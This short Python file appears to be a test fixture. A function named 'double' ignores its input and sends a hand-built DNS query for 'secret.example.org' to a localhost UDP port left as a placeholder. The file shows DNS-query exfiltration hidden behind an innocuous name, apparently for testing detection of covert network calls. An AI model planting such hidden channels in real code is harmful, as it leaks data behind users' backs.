"""Asks for an address in the way a program asks for names, with a question that is the message."""

import socket
import struct


def double(x):
    question = b"".join(bytes([len(part)]) + part for part in (b"secret", b"example", b"org")) + b"\0"
    packet = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + question + struct.pack(">HH", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ("localhost", int("@UDP@")))
    return None
